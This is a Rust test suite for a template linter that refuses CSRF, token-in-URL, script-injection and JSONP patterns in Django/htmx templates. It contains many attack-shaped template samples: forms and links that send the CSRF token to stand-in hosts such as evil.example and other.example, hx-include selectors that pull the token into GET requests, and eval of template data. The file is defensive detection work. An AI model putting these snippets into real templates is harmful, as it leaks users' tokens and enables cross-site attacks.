//! Attacks by what is sent: where a form, a link, or what a library makes of their attributes goes, with which verb, and what of a
//! token goes along.
#![allow(missing_docs, unreachable_pub)]
#![cfg(feature = "compiler")]

#[path = "support/refused.rs"]
mod reason;

use reason::refused;

/// CWE-352: where something is sent with the page's token, data chooses neither the view nor the verb.
#[test]
fn data_names_no_view_that_gets_the_token() {
    for (template, class) in [
        (
            "<form method=\"post\" action=\"{% url a %}{{ x }}\"></form>",
            "form-action",
        ),
        (
            "<form method=\"post\" action=\"/{{ x }}/\"></form>",
            "form-action",
        ),
        (
            "<form method=\"post\"><button formaction=\"{% url a %}{{ x }}\">a</button></form>",
            "form-action",
        ),
        ("<button hx-post=\"{% url a %}{{ x }}\">a</button>", "form-action"),
        ("<button hx-delete=\"/{{ x }}\">a</button>", "form-action"),
        (
            "<a href=\"{{ x }}\" data-turbo-method=\"post\">a</a>",
            "form-action",
        ),
        (
            "<a data-turbo-method=\" DELETE \" href=\"{{ x }}\">a</a>",
            "form-action",
        ),
        ("<a href=\"/{{ x }}\" data-method=\"put\">a</a>", "form-action"),
        (
            "<a href=\"{% url a %}{{ x }}\" data-method=\"put\">a</a>",
            "form-action",
        ),
        (
            "<a href=\"//evil.example/\" up-method=\"patch\">a</a>",
            "form-action",
        ),
        (
            "<a href=\"{% if a %}/a/{% else %}{{ b }}{% endif %}\" data-method=\"{% if a %}post{% endif %}\">a</a>",
            "form-action",
        ),
        // A query says nothing of the address before it.
        (
            "<a href=\"/{{ x }}/{% querystring %}\" data-turbo-method=\"delete\">a</a>",
            "form-action",
        ),
        (
            "<a href=\"/{{ x|urlencode }}{% querystring %}\" data-turbo-method=\"delete\">a</a>",
            "form-action",
        ),
        (
            "<a href=\"https://evil.example/a{% querystring %}\" data-method=\"post\">a</a>",
            "form-action",
        ),
        (
            "<a href=\"https://evil.example/{{ x }}{% querystring %}\" data-method=\"post\">a</a>",
            "form-action",
        ),
        (
            "<form method=\"post\" action=\"{{ a_route }}{% querystring %}\"></form>",
            "mixed-value",
        ),
        // Several segments name any view below.
        (
            "<a href=\"/notes/{{ x|urlencode }}/\" data-turbo-method=\"delete\">a</a>",
            "form-action",
        ),
        (
            "<a href=\"/notes/{{ x|iriencode }}/{{ x }}/{% querystring %}\" data-turbo-method=\"delete\">a</a>",
            "form-action",
        ),
        // `home` may be `/`.
        (
            "<a href=\"{% url home %}/logout\" data-turbo-method=\"post\">a</a>",
            "form-action",
        ),
        (
            "<a href=\"{% url home %}/logout/now/\" data-turbo-method=\"post\">a</a>",
            "form-action",
        ),
        (
            "<a href=\"{% url home %}{% if a %}/logout{% endif %}\" data-method=\"post\">a</a>",
            "form-action",
        ),
        (
            "<a href=\"{% url home %}{% if a %}?b=1{% endif %}/logout\" data-method=\"post\">a</a>",
            "form-action",
        ),
        (
            "<a href=\"{% if a %}{% url home %}{% else %}/n/{{ x }}/{% endif %}//evil.example\" data-method=\"post\">a</a>",
            "form-action",
        ),
        (
            "<a href=\"{% if q %}?q={{ q }}{% else %}{% url home %}{% endif %}/a/b/\" data-method=\"post\">a</a>",
            "form-action",
        ),
        // What libraries read in place of `href`.
        (
            "<select name=\"a\" data-url=\"{{ x }}\" data-remote=\"true\" data-method=\"post\" aria-label=\"a\"></select>",
            "form-action",
        ),
        (
            "<button data-url=\"https://evil.example/\" data-remote=\"true\" data-method=\"put\">a</button>",
            "form-action",
        ),
        (
            "<a href=\"/a/\" data-href=\"/{{ x }}\" data-method=\"delete\">a</a>",
            "form-action",
        ),
        (
            "<div up-href=\"//evil.example/\" up-method=\"post\">a</div>",
            "form-action",
        ),
        // A part of a POST form needs no verb: blueimp's upload, unobtrusive-ajax, Unpoly.
        (
            "<form method=\"post\"><input type=\"file\" name=\"f\" data-url=\"{{ x }}\"></form>",
            "form-action",
        ),
        (
            "<form method=\"post\" data-ajax=\"true\" data-ajax-url=\"{{ x }}\"></form>",
            "form-action",
        ),
        (
            "<form method=\"post\" data-action=\"/{{ x }}\"></form>",
            "form-action",
        ),
        (
            "<form method=\"post\" up-validate-url=\"https://evil.example/\"></form>",
            "form-action",
        ),
        (
            "<button form=\"f\" data-formaction=\"/{{ x }}\">a</button>",
            "form-action",
        ),
        (
            "<button data-ajax-url=\"{{ x }}\" data-ajax-method=\"post\">a</button>",
            "form-action",
        ),
        // CWE-598: what they send with GET stands in an address, token and all.
        (
            "<form method=\"post\" action=\"/a/\" up-submit up-method=\"get\"></form>",
            "foreign-form",
        ),
        (
            "<form method=\"post\" action=\"/a/\" up-submit data-method=\" GET\"></form>",
            "foreign-form",
        ),
        (
            "<form method=\"post\"><input name=\"a\" up-validate up-validate-method=\"get\" aria-label=\"a\"></form>",
            "foreign-form",
        ),
        (
            "<form method=\"post\" action=\"/a/\" data-ajax=\"true\" data-ajax-method=\"{% if a %}get{% endif %}\"></form>",
            "foreign-form",
        ),
        (
            "<form method=\"post\" up-validate><fieldset up-validate-method=\"get\"></fieldset></form>",
            "foreign-form",
        ),
        (
            "<div up-watch-method=\"get\"><form method=\"post\"></form></div>",
            "foreign-form",
        ),
        (
            "<div up-validate-url=\"https://evil.example/\"><form method=\"post\"></form></div>",
            "form-action",
        ),
        // A verb makes any element one that is sent.
        (
            "<tr data-method=\"post\" data-href=\"{{ x }}\"></tr>",
            "form-action",
        ),
        (
            "<a data-method=\"delete\" data-to=\"{{ x }}\">a</a>",
            "form-action",
        ),
        (
            "<form method=\"post\"><button up-method=\"get\">a</button></form>",
            "foreign-form",
        ),
        (
            "<form method=\"post\" action=\"/a/\" data-method=\"head\"></form>",
            "foreign-form",
        ),
        (
            "<form method=\"post\" action=\"/a/\" data-method=\"{% if a %}get{% endif %}\"></form>",
            "foreign-form",
        ),
        (
            "<form method=\"post\" action=\"/a/\" data-turbo-method=\"{% if a %}get{% endif %}\"></form>",
            "foreign-form",
        ),
        // CWE-235: a note of `x&role=owner` is two parameters.
        (
            "<a href=\"/a/\" data-remote=\"true\" data-method=\"post\" data-params=\"a=b&amp;note={{ x }}\">a</a>",
            "form-attribute",
        ),
        (
            "<form method=\"post\" data-params=\"a={{ x }}\"></form>",
            "form-attribute",
        ),
        // What a script sends or loads later is what it is named after.
        (
            "<script type=\"text/plain\" data-src=\"/{{ x }}\"></script>",
            "mixed-value",
        ),
        ("<link rel=\"stylesheet\" data-href=\"/{{ x }}\">", "mixed-value"),
        (
            "<iframe title=\"a\" data-src=\"/{{ x }}\"></iframe>",
            "mixed-value",
        ),
        (
            "<script type=\"text/plain\" data-cmplz-src=\"/{{ x }}\"></script>",
            "mixed-value",
        ),
        (
            "<link rel=\"stylesheet\" data-lazy-href=\"/{{ x }}\">",
            "mixed-value",
        ),
        (
            "<form method=\"get\" data-action=\"/{{ x }}\"></form>",
            "form-action",
        ),
        ("<table data-ajax=\"/a/%2{{ x }}\"></table>", "partial-escape"),
        ("<object data-data=\"{{ x }}\"></object>", "object"),
        (
            "<select name=\"a\" data-url=\"/a/\" data-method=\"{{ x }}\" aria-label=\"a\"></select>",
            "form-attribute",
        ),
        (
            "<form method=\"post\" action=\"{% url home %}/logout/now/\"></form>",
            "foreign-form",
        ),
        (
            "<form method=\"post\" action=\"{% url home %}&Tab;/logout/{{ x }}/\"></form>",
            "foreign-form",
        ),
        (
            "<form method=\"post\" action=\"{% url home %}{% if a %}?b=1{% endif %}/logout/\"></form>",
            "foreign-form",
        ),
        // Browsers take the second.
        (
            "<svg><a xlink:href=\"/a/\" href=\"{{ x }}\" data-method=\"post\">a</a></svg>",
            "form-action",
        ),
        (
            "<svg><a href=\"/a/\" xlink:href=\"{{ x }}\" data-method=\"post\">a</a></svg>",
            "form-action",
        ),
        ("<a href=\"/a/\" data-method=\"{{ x }}\">a</a>", "form-attribute"),
        (
            "<a href=\"/a/\" data-turbo-method=\"{{ x }}\">a</a>",
            "form-attribute",
        ),
        ("<a href=\"/a/%{{ x }}/\">a</a>", "partial-escape"),
        (
            "<a href=\"/a/%2{% if a %}{{ x }}{% endif %}/\">a</a>",
            "partial-escape",
        ),
        ("<img alt=\"\" srcset=\"/a/%2{{ x }} 2x\">", "partial-escape"),
    ] {
        assert_eq!(refused(template), Some(class), "{template}");
    }
    for fine in [
        "<a href=\"/a/\" data-turbo-method=\"delete\">a</a>",
        "<a href=\"{% url a x %}\" data-turbo-method=\"delete\">a</a>",
        "<a href=\"{{ x }}\" data-turbo-method=\"get\">a</a>",
        "<i data-payment-method=\"{{ x }}\" data-url=\"{{ x }}\">a</i>",
        "<select name=\"a\" data-url=\"/notes/{{ x }}/\" data-remote=\"true\" data-method=\"post\" aria-label=\"a\"></select>",
        "<a href=\"{{ x }}\" data-url=\"{{ x }}\" data-remote=\"true\">a</a>",
        "<form method=\"post\"><input type=\"file\" name=\"f\" data-url=\"/notes/{{ x }}/\"></form>",
        "<form method=\"post\" data-action=\"turbo:submit-end->modal#close\"></form>",
        "<form method=\"post\"><button data-action=\"{% if a %}signup{% else %}login{% endif %}\">a</button></form>",
        "<form method=\"post\"><input name=\"a\" data-hourly-rate=\"{{ x }}\" aria-label=\"a\"></form>",
        "<form method=\"post\"><select name=\"a\" data-url=\"{% if e %}/a/{% else %}/b/{% endif %}\" aria-label=\"a\"></select></form>",
        "<form method=\"post\"><button data-payment-method=\"{% if a %}card{% else %}cash{% endif %}\">a</button></form>",
        "<form method=\"post\"><select name=\"a\" data-remote=\"true\" data-method=\"get\" data-url=\"/b/\" aria-label=\"a\"></select></form>",
        "<form method=\"post\"><div data-preview-url=\"{{ x }}\"></div></form>",
        "<form method=\"get\" up-validate-method=\"get\"></form>",
        "<script src=\"/static/w.js\" data-api-url=\"{{ x }}\"></script>",
        "<form method=\"post\"><a data-url=\"{{ x }}\" data-method=\"get\">a</a></form>",
        "<form method=\"get\" data-ajax-url=\"{{ x }}\" data-ajax-method=\"get\"></form>",
        "<form method=\"post\" up-submit up-method=\"put\"></form>",
        "<form method=\"post\"><select name=\"a\" data-autocomplete-url=\"{% url a %}\" aria-label=\"a\"></select></form>",
        "<a href=\"/a/\" data-remote=\"true\" data-params=\"note={{ x }}\">a</a>",
        "<iframe title=\"a\" data-src=\"/maps/{{ x }}/\"></iframe>",
        "<a href=\"/a?b={{ x }}%\">a</a>",
        "<form method=\"post\" action=\"{% url a %}?b={{ x }}\"></form>",
        "<form method=\"post\" action=\"{% url a %}b/{{ x }}/\"></form>",
        "<form method=\"post\" action=\"{% url a %}{% querystring %}\"></form>",
        "<form method=\"post\" action=\"{% if a %}{% url a %}{% else %}/b/{% endif %}/c/\"></form>",
        "<a href=\"{% url a %}{% querystring %}\" data-turbo-method=\"delete\">a</a>",
        "<a href=\"{% url a %}b/\" data-turbo-method=\"delete\">a</a>",
        "<a href=\"{% querystring %}\" data-turbo-method=\"delete\">a</a>",
        "<a href=\"/{% querystring %}\" data-turbo-method=\"delete\">a</a>",
        "<a href=\"{% url home %}/logout\">a</a>",
    ] {
        assert_eq!(refused(fine), None, "{fine}");
    }
}

/// Each of these is refused, by its class: what it would do stands beside it.
#[test]
fn what_would_send_a_token_away_or_load_what_data_says_is_refused() {
    for (attack, template, class) in [
        (
            "CWE-352: no token",
            "<noscript><form method=\"post\" action=\"/a/\"></form></noscript>",
            "noscript-form",
        ),
        (
            "CWE-352: no token",
            "<noscript>a<FORM method=post></FORM></noscript>",
            "noscript-form",
        ),
        (
            "CWE-598: the token in an address",
            "<form method=\"post\"><button hx-delete=\"/a/\">a</button></form>",
            "foreign-form",
        ),
        (
            "CWE-598",
            "<form method=\"post\"><button data-hx-delete=\"{% url a %}\">a</button></form>",
            "foreign-form",
        ),
        (
            "CWE-598",
            "<button hx-get=\"/a/\" hx-include=\"closest form\">a</button>",
            "foreign-form",
        ),
        (
            "CWE-598",
            "<button hx-include=\"form\" hx-delete=\"/a/\">a</button>",
            "foreign-form",
        ),
        (
            "CWE-598: an element that is a form, or holds one",
            "<button hx-get=\"/a/\" hx-include=\"#f\">a</button>",
            "foreign-form",
        ),
        (
            "CWE-598",
            "<input name=\"q\" aria-label=\"q\" hx-get=\"/a/\" data-hx-include=\"#f input\">",
            "foreign-form",
        ),
        (
            "CWE-598",
            "<button hx-delete=\"/a/\" hx-include=\"this\">a</button>",
            "foreign-form",
        ),
        (
            "CWE-598",
            "<button hx-get=\"/a/\" hx-include=\"closest div\">a</button>",
            "foreign-form",
        ),
        (
            "CWE-598: whatever has a name",
            "<button hx-get=\"/a/\" hx-include=\"[name]\">a</button>",
            "foreign-form",
        ),
        (
            "CWE-598: the token by its name",
            "<button hx-get=\"/a/\" hx-include=\"[name='csrfmiddlewaretoken']\">a</button>",
            "foreign-form",
        ),
        (
            "CWE-598: a form with a name",
            "<button hx-get=\"/a/\" hx-include=\"form[name='q']\">a</button>",
            "foreign-form",
        ),
        (
            "CWE-598",
            "<button hx-get=\"/a/\" hx-include=\"[name='q'], #f\">a</button>",
            "foreign-form",
        ),
        (
            "CWE-598",
            "<button hx-get=\"/a/\" hx-include=\"{% if a %}#f{{ x }}{% else %}#g{% endif %}, [name='q']\">a</button>",
            "foreign-form",
        ),
        (
            "CWE-598",
            "<button hx-get=\"/a/\" hx-include=\"#f{{ x }}\">a</button>",
            "foreign-form",
        ),
        (
            "CWE-352: the token to another site",
            "<button hx-post=\"https://other.example/\" hx-include=\"input\">a</button>",
            "foreign-form",
        ),
        (
            "CWE-598: by inheritance",
            "<div hx-include=\"#f\"><button hx-get=\"/a/\">a</button></div>",
            "foreign-form",
        ),
        (
            "CWE-598: by inheritance",
            "<div hx-post=\"/b/\" hx-include=\"#f\"><button hx-get=\"/a/\">a</button></div>",
            "foreign-form",
        ),
        (
            "CWE-598",
            "<form hx-get=\"/a/\" hx-include=\"#f\"></form>",
            "foreign-form",
        ),
        (
            "CWE-352: the token to another site",
            "<form method=\"post\"><button hx-post=\"https://other.example/\">a</button></form>",
            "foreign-form",
        ),
        (
            "CWE-598: htmx 4 knows no hx-params",
            "<button hx-get=\"/a/\" hx-include=\"#f\" hx-params=\"not csrfmiddlewaretoken\">a</button>",
            "foreign-form",
        ),
        (
            "CWE-598: a form has a name as well",
            "<button hx-get=\"/a/\" hx-include=\"[name='q']\">a</button>",
            "foreign-form",
        ),
        (
            "CWE-598: a fieldset",
            "<button hx-get=\"/a/\" hx-include=\"#f [name='q']\">a</button>",
            "foreign-form",
        ),
        (
            "CWE-598: an object",
            "<button hx-get=\"/a/\" hx-include=\"find object[name='q']\">a</button>",
            "foreign-form",
        ),
        (
            "CWE-598",
            "<button hx-get=\"/a/\" hx-include=\"closest input[name='q']\">a</button>",
            "foreign-form",
        ),
        (
            "CWE-598: by inheritance, as htmx 4 says it",
            "<div hx-include:inherited=\"#f\"><button hx-get=\"/a/\">a</button></div>",
            "foreign-form",
        ),
        (
            "CWE-598: by inheritance, inside of a button",
            "<button hx-post=\"/a/\" hx-include=\"#f\"><span hx-get=\"/b/\">a</span></button>",
            "foreign-form",
        ),
        (
            "CWE-598: on one of the ways",
            "{% if a %}<a href=\"/a/\" hx-post=\"/a/\" hx-include=\"#f\">{% else %}<a href=\"/a/\">{% endif %}<b hx-get=\"/b/\">a</b></a>",
            "branches-differ",
        ),
        (
            "CWE-598: as htmx 4 says it",
            "<button hx-get=\"/a/\" data-hx-include:append=\"#f\">a</button>",
            "foreign-form",
        ),
        (
            "CWE-598: GET unless it says otherwise",
            "<button hx-action=\"/a/\" hx-include=\"#f\">a</button>",
            "foreign-form",
        ),
        (
            "CWE-598",
            "<form method=\"post\"><button hx-action=\"/a/\" hx-method=\"delete\">a</button></form>",
            "foreign-form",
        ),
        (
            "CWE-598: the verb may be inherited",
            "<form method=\"post\"><button hx-action=\"/a/\">a</button></form>",
            "foreign-form",
        ),
        (
            "CWE-598",
            "<form method=\"post\"><button hx-action=\"/a/\" hx-method=\"{% if a %}post{% else %}delete{% endif %}\">a</button></form>",
            "foreign-form",
        ),
        (
            "CWE-598",
            "<form method=\"post\" hx-action=\"/a/\" hx-method=\"get\"></form>",
            "foreign-form",
        ),
        (
            "CWE-352: the token to another site",
            "<form method=\"post\" hx-action=\"//other.example/\" hx-method=\"post\"></form>",
            "foreign-form",
        ),
        (
            "CWE-352: the token to another site",
            "<form method=\"post\"><button hx-post:inherited=\"//other.example/\">a</button></form>",
            "foreign-form",
        ),
        (
            "CWE-598: htmx takes that verb before the form's own",
            "<form method=\"post\" action=\"/a/\" hx-boost=\"true\" hx-method=\"delete\"></form>",
            "foreign-form",
        ),
        (
            "CWE-598",
            "<form method=\"post\" action=\"/a/\" hx-boost=\"true\" data-hx-method=\"get\"></form>",
            "foreign-form",
        ),
        (
            "CWE-598: inherited",
            "<main hx-boost:inherited=\"true\" hx-method:inherited=\"get\"><form method=\"post\" action=\"/a/\"></form></main>",
            "foreign-form",
        ),
        (
            "CWE-598: inherited",
            "<div hx-method=\"delete\"><form method=\"post\" action=\"/a/\"></form></div>",
            "foreign-form",
        ),
        (
            "CWE-598: before the button's own",
            "<form method=\"post\"><button hx-post=\"/a/\" hx-method=\"delete\">a</button></form>",
            "foreign-form",
        ),
        (
            "CWE-598: an inherited address goes before one's own",
            "<div hx-get:inherited=\"/x/\"><form method=\"post\" hx-post=\"/a/\"></form></div>",
            "foreign-form",
        ),
        (
            "CWE-598: two spellings of one name",
            "<form method=\"post\"><button hx-action=\"/a/\" hx-method=\"post\" data-hx-method=\"delete\">a</button></form>",
            "foreign-form",
        ),
        (
            "CWE-598: on one of the ways",
            "<form method=\"post\"><button hx-action=\"/a/\" {% if a %}hx-method=\"post\"{% endif %}>a</button></form>",
            "foreign-form",
        ),
        (
            "CWE-598: merged with what the form says",
            "<form method=\"post\" hx-post=\"/a/\" hx-config=\"method:GET\"></form>",
            "foreign-form",
        ),
        (
            "CWE-598: put together from two",
            "<form method=\"post\" hx-post=\"/a/\" hx-config:append=\"met{}hod:GET\"></form>",
            "foreign-form",
        ),
        (
            "CWE-598: the same, spelled in JSON",
            "<form method=\"post\" hx-post=\"/a/\" hx-config='{\"\\u006dethod\": \"GET\"}'></form>",
            "foreign-form",
        ),
        (
            "CWE-598: the same",
            "<form method=\"post\" action=\"/a/\" hx-boost=\"request.method:GET\"></form>",
            "foreign-form",
        ),
        (
            "CWE-598: its form may be any",
            "<button hx-delete=\"/a/\" form=\"f\">a</button>",
            "foreign-form",
        ),
        (
            "CWE-352: the token of its form to another site",
            "<input type=\"submit\" form=\"f\" hx-post=\"https://other.example/\">",
            "foreign-form",
        ),
        (
            "CWE-79: it is JavaScript",
            "<script type=\"text/javascript1.5\">a = `{{ x }}`</script>",
            "template-literal",
        ),
        (
            "CWE-79: it is JavaScript",
            "<script type=\"text/livescript\">a = `{{ x }}`</script>",
            "template-literal",
        ),
        (
            "CWE-829: data names a module",
            "<script>x[\"addModule\"](\"{{ x }}\")</script>",
            "unclear-script",
        ),
        (
            "CWE-95: data is run",
            "<script>window['eval'](\"{{ x }}\")</script>",
            "unclear-script",
        ),
        (
            "CWE-829: data names a function",
            "<script src=\"https://other.example/a.js?callback={{ x }}\"></script>",
            "mixed-value",
        ),
        (
            "CWE-829",
            "<script src=\"//other.example/a.js?a={{ x }}&amp;b={{ x }}\"></script>",
            "mixed-value",
        ),
        (
            "CWE-829: whoever made the link names a function",
            "<script src=\"https://other.example/jsonp{% querystring %}\"></script>",
            "mixed-value",
        ),
        (
            "CWE-829",
            "<script src=\"https://other.example/jsonp{% querystring a=1 %}&amp;b={{ x }}\"></script>",
            "mixed-value",
        ),
        (
            "CWE-829",
            "<script src=\"https://other.example/{% querystring %}{{ x }}\"></script>",
            "mixed-value",
        ),
        (
            "CWE-829",
            "<script src=\"{{ a_resource }}{% querystring %}\"></script>",
            "mixed-value",
        ),
        (
            "CWE-829",
            "<script data-main=\"https://other.example/{% querystring %}\" src=\"/a.js\"></script>",
            "mixed-value",
        ),
        (
            "CWE-829: the whole is the value's",
            "<link rel=\"modulepreload\" href=\"{{ a_resource }}{% querystring %}\">",
            "mixed-value",
        ),
        (
            "CWE-829",
            "<svg><use href=\"{{ a_resource }}{% querystring %}\"/></svg>",
            "mixed-value",
        ),
        (
            "CWE-829",
            "<iframe src=\"{{ a_resource }}{% querystring %}\"></iframe>",
            "mixed-value",
        ),
        (
            "it would be dropped",
            "<!--[if mso]><p>a</p><![endif]-->",
            "conditional-comment",
        ),
    ] {
        assert_eq!(refused(template), Some(class), "{attack}: {template}");
    }
    for fine in [
        "<noscript><p>a <a href=\"/a/\">form</a></p></noscript>",
        "<form method=\"post\"><button hx-get=\"/a/\">a</button><button hx-post=\"/b/\">b</button></form>",
        "<button hx-get=\"/a/\" hx-include=\"select[name='form']\">a</button>",
        "<button hx-get=\"/a/\" hx-include=\"#f-{{ x }} textarea[name='q'], input[name=&quot;p&quot;]\">a</button>",
        "<button hx-post=\"/a/\" hx-include=\"#f-{{ x }} input\">a</button>",
        "<div hx-include:inherited=\"find input[name='q']\"><button hx-get=\"/a/\" hx-include=\"unset\">a</button></div>",
        "<button hx-delete=\"/a/\">a</button>",
        "<button hx-post=\"/a/\" hx-include=\"#f\"><span hx-put=\"/b/\">a</span></button><b hx-get=\"/c/\">c</b>",
        "<button hx-post=\"/a/\" form=\"f\">a</button><button hx-get=\"/a/\" form=\"f\">b</button>",
        "<button hx-action=\"/a/{{ x }}/\" hx-method=\"post\" hx-include=\"#f\">a</button>",
        "<form method=\"post\"><button hx-action=\"/a/\" hx-method=\"PUT\">a</button></form>",
        "<script src=\"/a.js?b={{ x }}\"></script>",
        "<script src=\"{% url a %}?b={{ x }}\"></script>",
        "<script src=\"/a.js{% querystring b=x %}&amp;c={{ x }}\"></script>",
        "<script src=\"{% static 'a.js' %}{% querystring b=x %}\"></script>",
        "<link rel=\"stylesheet\" href=\"https://other.example/a.css{% querystring %}\">",
        "<iframe src=\"{% url map %}{% querystring %}\"></iframe>",
        "<iframe src=\"https://other.example/e/{{ x }}{% querystring %}\"></iframe>",
        "<script>const roles = {\"Worker\": {{ x }}};</script>",
    ] {
        assert_eq!(refused(fine), None, "{fine}");
    }
}

/// What htmx may be told beside a POST form, since the token stays in the body.
#[test]
fn htmx_is_told_what_sends_no_token_away() {
    for template in [
        "<form method=\"post\" action=\"/a/\" hx-boost=\"true\" hx-method=\"put\"></form>",
        "<div hx-boost:inherited=\"swap:outerSync target:#action\"><a href=\"/a/\">a</a></div>",
        "<button hx-action=\"/rows/7/\" hx-method=\"delete\">a</button>",
        "<form hx-action=\"/a/\" hx-method=\"get\"></form>",
        "<form method=\"get\"><select name=\"a\" hx-get=\"/s/\" hx-include=\"this\" aria-label=\"a\"></select></form>",
        "<form id=\"filters\" hx-get=\"/s/\" hx-include=\"this\"></form>",
        "<form method=\"post\" hx-post=\"/a/\" hx-config='{\"timeout\": 5000}'></form>",
    ] {
        assert_eq!(refused(template), None, "{template}");
    }
}
